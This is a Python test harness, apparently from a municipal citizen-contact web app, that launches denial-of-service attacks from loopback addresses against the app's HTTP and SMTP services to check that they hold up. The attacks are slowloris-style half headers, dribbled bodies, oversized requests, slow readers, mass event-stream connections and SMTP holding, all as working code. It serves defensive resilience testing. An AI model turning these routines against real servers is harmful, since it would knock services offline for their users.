"""The attacker, in a process of its own: `python -m tests.attack.strike <name> <door> <smtp> <seconds>`.

Load is bounded: it shows what holding costs others, not how fast this machine is. Whoever is thrown
out comes again, at most so often a second. It comes from a few addresses of the loopback.
"""

import asyncio
import itertools
import re
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass

import httpx

ADDRESSES = ["127.0.0.2", "127.0.0.3", "127.0.0.4", "127.0.0.5"]
AGAIN = 5.0  # seconds before one that was thrown out comes again
PIECE = b"a" * 65_536
_addresses = itertools.cycle(ADDRESSES)


@dataclass(frozen=True)
class Aim:
    door: str
    smtp: str

    def head(self, method: str, path: str, rest: str = "") -> bytes:
        site = "Sec-Fetch-Site: same-origin\r\n"
        return f"{method} {path} HTTP/1.1\r\nHost: {self.door}\r\n{site}{rest}".encode()


@asynccontextmanager
async def connected(
    address: str, mine: str = ""
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    host, _, port = address.rpartition(":")
    source = (mine or next(_addresses), 0)
    reader, writer = await asyncio.open_connection(host, int(port), local_addr=source)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def for_ever(one: Callable[[], Awaitable[None]]) -> None:
    while True:
        with suppress(OSError, EOFError, TimeoutError):
            await one()
        await asyncio.sleep(AGAIN)


async def many(number: int, one: Callable[[], Awaitable[None]], rate: float = 1000) -> None:
    """Have so many at it; so many come in a second, for to ask much is not to hold much."""
    async with asyncio.TaskGroup() as group:
        for at in range(number):
            group.create_task(for_ever(one))
            if at % 10 == 0:
                await asyncio.sleep(10 / rate)


async def hold(aim: str, said: bytes, dribble: bytes = b"", every: float = 1.0) -> None:
    """Say something and stay, with a little more now and then, until we are thrown out."""
    async with connected(aim) as (reader, writer):
        writer.write(said)
        while True:
            with suppress(TimeoutError):
                async with asyncio.timeout(every):
                    if not await reader.read(65_536):
                        return
            writer.write(dribble)
            await writer.drain()


async def large_headers(aim: Aim) -> None:
    async def one() -> None:
        async with connected(aim.door) as (_, writer):
            writer.write(aim.head("GET", "/", "X: "))
            for _ in range(1600):
                writer.write(PIECE)
                await writer.drain()
                await asyncio.sleep(0.01)

    await many(4, one)


async def half_headers(aim: Aim) -> None:
    await many(1500, lambda: hold(aim.door, aim.head("GET", "/", "X: "), b"a", 2.0))


async def silent_sockets(aim: Aim) -> None:
    await many(1500, lambda: hold(aim.door, b"", b"", 5.0))


def _body(aim: Aim, method: str, size: int, sent: int) -> bytes:
    head = aim.head(method, "/musterstadt/kontakt", f"Content-Length: {size}\r\n")
    kind = b"Content-Type: multipart/form-data; boundary=b\r\n\r\n"
    return head + kind + b"a" * sent


async def dribbled_posts(aim: Aim) -> None:
    await many(300, lambda: hold(aim.door, _body(aim, "POST", 100_000, 1), b"a"))


async def dribbled_gets(aim: Aim) -> None:
    await many(300, lambda: hold(aim.door, _body(aim, "GET", 100_000, 1), b"a"))


async def large_posts(aim: Aim) -> None:
    await many(16, lambda: hold(aim.door, _body(aim, "POST", 2_000_000, 1_500_000), b"a"))


async def slow_readers(aim: Aim) -> None:
    path = "/static/x/vendor/kern-ux-native-2.7.2/fonts/FiraSans-SemiBold.woff2"  # large
    said = aim.head("GET", path, "\r\n") * 100

    async def one() -> None:
        async with connected(aim.door) as (reader, writer):
            reader._transport.pause_reading()  # takes nothing of the answers
            writer.write(said)
            await asyncio.sleep(60)

    await many(40, one)


async def live_streams(aim: Aim) -> None:
    cookie = await asyncio.to_thread(begin_inbox, aim.door, ADDRESSES[0])
    more = f"Cookie: {cookie}\r\nAccept: text/event-stream\r\n\r\n"
    said = aim.head("GET", "/musterstadt/vorgang/live", more)
    await many(520, lambda: hold(aim.door, said, every=5), rate=100)


def begin_inbox(door: str, address: str) -> str:
    """Send a form as a citizen does; return the cookie of her session."""
    transport = httpx.HTTPTransport(local_address=address)
    site = {"Sec-Fetch-Site": "same-origin"}
    with httpx.Client(base_url=f"http://{door}", transport=transport, headers=site) as citizen:
        page = citizen.get("/musterstadt/kontakt").text
        [form] = re.findall(r'<input type="hidden" name="form" value="([^"]*)">', page)
        fields = {"form": form, "subject": "Biotonne", "text": "Sie ist voll.", "answer": "here"}
        said = citizen.post("/musterstadt/kontakt", data=fields)
        said.raise_for_status() if said.status_code >= 400 else None
        return f"faden_citizen={citizen.cookies['faden_citizen']}"


async def _greeted(aim: Aim, lines: list[bytes]) -> None:
    async with asyncio.timeout(60), connected(aim.smtp, ADDRESSES[0]) as (reader, writer):
        await reader.readline()
        for line in lines:
            writer.write(line + b"\r\n")
            while (await reader.readline())[3:4] == b"-":
                pass
        dribble = b"a\r\n" if lines[-1] == b"DATA" else b"NOOP\r\n"
        if lines[-1] == b"DATA":
            writer.write((b"a" * 78 + b"\r\n") * 14_000)
        while not reader.at_eof():
            writer.write(dribble)
            await writer.drain()
            await asyncio.sleep(1)


async def smtp_dribble(aim: Aim) -> None:
    to = b"RCPT TO:<post@musterstadt.example>"
    lines = [b"EHLO a.example", b"MAIL FROM:<a@example.org> SIZE=5000000", to, b"DATA"]
    await many(8, lambda: _greeted(aim, lines))


async def smtp_idle(aim: Aim) -> None:
    await many(220, lambda: _greeted(aim, [b"EHLO a.example"]))


STRIKES: dict[str, Callable[[Aim], Awaitable[None]]] = {
    one.__name__: one
    for one in (
        large_headers, half_headers, silent_sockets, dribbled_posts, dribbled_gets, large_posts,
        slow_readers, live_streams, smtp_dribble, smtp_idle,
    )
}  # fmt: skip


async def main(name: str, aim: Aim, seconds: float) -> None:
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await STRIKES[name](aim)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], Aim(sys.argv[2], sys.argv[3]), float(sys.argv[4])))
